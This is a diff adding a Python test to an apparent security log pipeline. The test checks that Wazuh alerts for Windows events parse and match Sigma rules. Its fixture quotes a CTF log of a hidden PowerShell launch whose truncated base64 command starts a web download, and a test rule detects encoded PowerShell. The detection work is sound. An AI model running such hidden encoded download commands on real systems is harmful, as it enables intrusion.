@@ -242,3 +242,86 @@ def test_sigma_correlations_group_snare_lines_by_their_event_data() -> None:
         assert m.num_rows == n
         out = CorrelationEngine(rs, None, clock=lambda: 1900000000.0).process(batch, m)
         assert [json.loads(f["unmapped"])["group"] for f in (out.to_pylist() if out is not None else [])] == fired
+
+
+# -- Wazuh's alerts of Windows events (its windows_eventchannel decoder: the event under data.win) --------
+
+#: two alerts of a CTF write-up's Wazuh alerts.json (agent DESKTOP-RL1K13Q, 2025-08-13): a Sysmon 1 of an
+#: encoded PowerShell command (rule 92057) and a 4624 of the SYSTEM account (rule 60106), their long
+#: rendered messages and the encoded command shortened
+_WAZUH_SYSMON = {
+    "timestamp": "2025-08-13T08:42:21.005+0000",
+    "rule": {"level": 12, "description": "Powershell.exe spawned a powershell process which executed a base64 encoded command",
+             "id": "92057", "mitre": {"id": ["T1059.001"], "tactic": ["Execution"], "technique": ["PowerShell"]},
+             "firedtimes": 1, "mail": True, "groups": ["sysmon", "sysmon_eid1_detections", "windows"]},
+    "agent": {"id": "002", "name": "DESKTOP-RL1K13Q", "ip": "192.168.80.9"}, "manager": {"name": "wazuh"},
+    "id": "1755074541.11456929", "decoder": {"name": "windows_eventchannel"},
+    "data": {"win": {"system": {
+        "providerName": "Microsoft-Windows-Sysmon", "providerGuid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", "eventID": "1",
+        "version": "5", "level": "4", "task": "1", "opcode": "0", "keywords": "0x8000000000000000",
+        "systemTime": "2025-08-13T08:42:27.2750913Z", "eventRecordID": "2935", "processID": "3536", "threadID": "3340",
+        "channel": "Microsoft-Windows-Sysmon/Operational", "computer": "DESKTOP-RL1K13Q", "severityValue": "INFORMATION",
+        "message": "\"Process Create:\r\nRuleName: -\r\n...\""},
+        "eventdata": {
+            "utcTime": "2025-08-13 08:42:27.161", "processGuid": "{59d32d4f-4ff3-689c-cd03-000000001600}", "processId": "5096",
+            "image": "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
+            "originalFileName": "PowerShell.EXE",
+            "commandLine": "\\\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\\\" -NoP -NonI -W Hidden "
+                           "-EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAALQBVAHIAaQAgACIAaAB0AHQAcAA6AC8ALwAx",
+            "user": "DESKTOP-RL1K13Q\\\\Bluecheap", "integrityLevel": "High", "parentProcessId": "2456",
+            "parentImage": "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe"}}},
+    "location": "EventChannel",
+}
+_WAZUH_LOGON = {
+    "timestamp": "2025-08-13T08:14:35.349+0000",
+    "rule": {"level": 3, "description": "Windows Logon Success", "id": "60106", "firedtimes": 7, "mail": False,
+             "groups": ["windows", "windows_security", "authentication_success"]},
+    "agent": {"id": "002", "name": "DESKTOP-RL1K13Q", "ip": "192.168.80.9"}, "manager": {"name": "wazuh"},
+    "id": "1755072875.11212593", "decoder": {"name": "windows_eventchannel"},
+    "data": {"win": {"system": {
+        "providerName": "Microsoft-Windows-Security-Auditing", "providerGuid": "{54849625-5478-4994-a5ba-3e3b0328c30d}",
+        "eventID": "4624", "version": "2", "level": "0", "task": "12544", "opcode": "0", "keywords": "0x8020000000000000",
+        "systemTime": "2025-08-13T08:14:38.8333557Z", "eventRecordID": "32280", "processID": "724", "threadID": "5296",
+        "channel": "Security", "computer": "DESKTOP-RL1K13Q", "severityValue": "AUDIT_SUCCESS",
+        "message": "\"An account was successfully logged on.\r\n...\""},
+        "eventdata": {
+            "subjectUserSid": "S-1-5-18", "subjectUserName": "DESKTOP-RL1K13Q$", "subjectDomainName": "WORKGROUP",
+            "subjectLogonId": "0x3e7", "targetUserSid": "S-1-5-18", "targetUserName": "SYSTEM", "targetDomainName": "NT AUTHORITY",
+            "targetLogonId": "0x3e7", "logonType": "5", "logonProcessName": "Advapi", "authenticationPackageName": "Negotiate",
+            "processName": "C:\\\\Windows\\\\System32\\\\services.exe"}}},
+    "location": "EventChannel",
+}
+
+
+def test_wazuh_windows_alerts_are_stored_and_read_by_windows_rules(tmp_path: Path) -> None:
+    """``--format auto`` dead-lettered Wazuh's alerts.json (no format matched), and ``product: windows``
+    rules read none of ``data.win``."""
+    from secpipe import formats
+    from secpipe.detect.sigma import load_rules
+    from secpipe.detect.sigma.engine import RuleSet
+
+    body = b"\n".join(orjson.dumps(a) for a in (_WAZUH_SYSMON, _WAZUH_LOGON))
+    fmt = formats.detect(body)
+    assert fmt is not None and fmt.name == "json"
+    dec = fmt.decode(body, "alerts.json")
+    assert not dec.dead
+    rows = [r for b in dec.batches for r in b.to_pylist()]
+    assert [r["time"] for r in rows] == [1755074541005, 1755072875349]
+    rules = {
+        "encoded": "logsource: {product: windows, category: process_creation}\ndetection:\n  selection:\n"
+                   "    Image|endswith: '\\powershell.exe'\n    CommandLine|contains: ' -EncodedCommand '\n  condition: selection\n",
+        "system logon": "logsource: {product: windows, service: security}\ndetection:\n  selection:\n"
+                        "    EventID: 4624\n    LogonType: 5\n    TargetUserName: SYSTEM\n    Channel: Security\n"
+                        "    Provider_Name: Microsoft-Windows-Security-Auditing\n  condition: selection\n",
+        "failed": "logsource: {product: windows, service: security}\ndetection:\n  selection:\n"
+                  "    EventID: 4625\n  condition: selection\n",
+    }  # fmt: skip
+    got = {}
+    for i, (name, detection) in enumerate(rules.items()):
+        path = tmp_path / f"{i}.yml"
+        path.write_text(f"title: {name}\nid: 6a1e3c1a-0b7e-4c2d-9d1e-7a6b5c4d3e{i:02d}\n{detection}")
+        rs = load_rules([path])
+        assert not rs.unsupported
+        for ruleset in (rs, RuleSet(rs.rules, distinct_values=False)):
+            got.setdefault(name, []).append(sorted(r for b in dec.batches for r in ruleset.matches(b).column("row").to_pylist()))
+    assert got == {"encoded": [[0]] * 2, "system logon": [[1]] * 2, "failed": [[]] * 2}
